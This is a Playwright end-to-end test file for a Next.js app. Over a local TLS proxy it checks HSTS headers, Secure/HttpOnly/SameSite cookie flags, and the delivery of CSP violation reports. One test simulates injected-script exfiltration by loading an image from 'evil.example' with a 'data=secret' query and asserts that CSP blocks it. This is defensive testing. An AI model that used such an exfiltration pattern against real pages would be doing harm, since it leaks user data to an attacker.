import { type ChildProcess, execFileSync, spawn } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import http from "node:http";
import https from "node:https";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import { expect, test } from "../fixtures";
import { personaName } from "../support/personas";
import { SMTP_SINK_PORT } from "../support/ports";

/**
 * The production build behind https, as it runs in production:
 * a TLS-terminating proxy (a self-signed certificate made by
 * `openssl` for this run) in front of a second `next start` of the e2e build
 * whose public URL (AUTH_URL) is https. Chromium signs in through it; the
 * session and CSRF cookies must carry Secure, HttpOnly and SameSite, and pages
 * HSTS. The rest of the e2e run is over plain http (no HSTS, no Secure).
 * Chromium delivers CSP violation reports (`report-to`, the Reporting API) only
 * from and to https origins: their delivery to /api/csp-report is tested here.
 */

test.describe.configure({ mode: "serial" });

// The certificate is made for this run; Chromium sends CSP reports at once with its switch for tests
// (otherwise it batches them for up to a minute).
const systemChromium = "/usr/bin/chromium";
test.use({
  launchOptions: {
    ...(existsSync(systemChromium) ? { executablePath: systemChromium } : {}),
    args: [
      "--disable-component-update",
      "--disable-sync",
      "--short-reporting-delay",
      "--ignore-certificate-errors",
    ],
  },
});

let app: ChildProcess | undefined;
let proxy: https.Server | undefined;
let origin = "";
const folder = mkdtempSync(path.join(tmpdir(), "e2e-https-"));

/** A free loopback port, chosen by the system (no collision with other runs). */
async function freePort() {
  const server = http.createServer();
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  await new Promise((resolve) => server.close(resolve));
  return port;
}

test.beforeAll(async () => {
  test.setTimeout(180_000);
  execFileSync(
    "openssl",
    [
      "req",
      "-x509",
      "-newkey",
      "rsa:2048",
      "-nodes",
      "-days",
      "1",
      "-subj",
      "/CN=localhost",
      "-addext",
      "subjectAltName=DNS:localhost",
      "-keyout",
      path.join(folder, "key.pem"),
      "-out",
      path.join(folder, "cert.pem"),
    ],
    { stdio: "ignore" },
  );
  const appPort = await freePort();
  // The proxy: TLS here, plain http to the app, as nginx would (Host kept, X-Forwarded-Proto: https).
  proxy = https.createServer(
    { key: readFileSync(path.join(folder, "key.pem")), cert: readFileSync(path.join(folder, "cert.pem")) },
    (req, res) => {
      const upstream = http.request(
        {
          host: "127.0.0.1",
          port: appPort,
          method: req.method,
          path: req.url,
          headers: { ...req.headers, "x-forwarded-proto": "https", "x-forwarded-for": "127.0.0.1" },
        },
        (answer) => {
          res.writeHead(answer.statusCode ?? 502, answer.headers);
          answer.pipe(res);
        },
      );
      upstream.on("error", () => res.writeHead(502).end());
      req.pipe(upstream);
    },
  );
  await new Promise<void>((resolve) => proxy?.listen(0, "127.0.0.1", resolve));
  origin = `https://localhost:${(proxy.address() as AddressInfo).port}`;
  app = spawn(
    process.execPath,
    ["node_modules/next/dist/bin/next", "start", "-H", "127.0.0.1", "-p", String(appPort)],
    {
      env: {
        ...process.env,
        ...(process.env.E2E_DATABASE_URL ? { DATABASE_URL: process.env.E2E_DATABASE_URL } : {}),
        NODE_ENV: "production",
        DEMO_DATA: "true",
        DEMO_MODE: "true",
        SIGN_IN_LIMIT_PER_ADDRESS: "1000000",
        NEXT_TELEMETRY_DISABLED: "1",
        AUTH_SECRET: process.env.AUTH_SECRET ?? "e2e-secret-not-for-production-0123456789",
        AUTH_URL: origin,
        SMTP_URL: `smtp://127.0.0.1:${SMTP_SINK_PORT}`,
        MAIL_SENDER_INTERVAL_MS: "500",
      },
      stdio: "ignore",
      detached: true,
    },
  );
  // Ready when its health check answers.
  await expect
    .poll(
      () =>
        new Promise<number>((resolve) => {
          http
            .get({ host: "127.0.0.1", port: appPort, path: "/api/health" }, (r) => {
              r.resume();
              resolve(r.statusCode ?? 0);
            })
            .on("error", () => resolve(0));
        }),
      { timeout: 150_000, intervals: [500] },
    )
    .toBe(200);
});

test.afterAll(async () => {
  if (app?.pid) process.kill(-app.pid, "SIGTERM");
  await new Promise((resolve) => (proxy ? proxy.close(resolve) : resolve(undefined)));
  rmSync(folder, { recursive: true, force: true });
});

test("over https, pages send HSTS and the session and CSRF cookies are Secure, HttpOnly, SameSite=Lax", async ({
  browser,
}) => {
  const context = await browser.newContext({ ignoreHTTPSErrors: true, baseURL: origin });
  const page = await context.newPage();
  const response = await page.goto("/connexion");
  expect(response?.headers()["strict-transport-security"]).toBe("max-age=63072000; includeSubDomains");
  expect(response?.headers()["content-security-policy"]).toContain("upgrade-insecure-requests");
  const home = await context.request.get("/");
  expect(home.headers()["strict-transport-security"]).toBe("max-age=63072000; includeSubDomains");

  await page
    .getByRole("button", { name: new RegExp(`^Se connecter en tant que ${personaName("applicant-other")}`) })
    .click();
  await expect(page).not.toHaveURL(/\/connexion/);
  // Auth.js's CSRF token, as its sign-in forms fetch it.
  expect((await context.request.get("/api/auth/csrf")).status()).toBe(200);

  const cookies = await context.cookies();
  const session = cookies.find((c) => c.name === "__Secure-authjs.session-token");
  const csrf = cookies.find((c) => c.name === "__Host-authjs.csrf-token");
  for (const cookie of [session, csrf]) {
    expect(cookie).toMatchObject({ secure: true, httpOnly: true, sameSite: "Lax" });
  }
  // __Host- cookies are bound to this host and path /, as browsers require.
  expect(csrf).toMatchObject({ domain: "localhost", path: "/" });
  // No cookie of the app goes out over plain http.
  expect(cookies.filter((c) => c.name.includes("authjs") && !c.secure)).toEqual([]);
  await context.close();
});

type Report = { id: string; type: string; status: string; body: Record<string, unknown> };

test("over https, a violation is reported by Chromium to /api/csp-report, which accepts it", async ({
  browser,
}) => {
  const context = await browser.newContext({ ignoreHTTPSErrors: true, baseURL: origin });
  const page = await context.newPage();
  // Chromium itself says, over the DevTools protocol, what became of each report.
  const cdp = await context.newCDPSession(page);
  const reports = new Map<string, Report>();
  const track = (event: { report: Report }) => reports.set(event.report.id, event.report);
  cdp.on("Network.reportingApiReportAdded", track);
  cdp.on("Network.reportingApiReportUpdated", track);
  await cdp.send("Network.enable");
  await cdp.send("Network.enableReportingApi", { enable: true });

  const response = await page.goto("/connexion");
  expect(response?.headers()["content-security-policy"]).toContain("report-to csp");
  expect(response?.headers()["reporting-endpoints"]).toBe('csp="/api/csp-report"');
  await expect(page.getByRole("button", { name: "Recevoir un lien de connexion" })).toBeVisible();
  // What an injected script would do to send data out: load an image of another site. Blocked.
  const loaded = await page.evaluate(
    () =>
      new Promise<boolean>((resolve) => {
        const image = document.createElement("img");
        image.onload = () => resolve(true);
        image.onerror = () => resolve(false);
        image.src = "https://evil.example/pixel.png?data=secret";
        document.body.append(image);
      }),
  );
  expect(loaded).toBe(false);

  // « Success »: Chromium uploaded the report and the endpoint answered 2xx (it answers 400 to a
  // body that is not a CSP report, 415 to another type).
  const delivered = () =>
    [...reports.values()].filter(
      (r) =>
        r.type === "csp-violation" &&
        r.status === "Success" &&
        r.body.effectiveDirective === "img-src" &&
        String(r.body.blockedURL).startsWith("https://evil.example/pixel.png"),
    );
  await expect
    .poll(() => delivered().length, { timeout: 20_000, message: JSON.stringify([...reports.values()]) })
    .toBeGreaterThan(0);
  expect(String(delivered()[0]?.body.documentURL)).toBe(`${origin}/connexion`);
  await context.close();
});
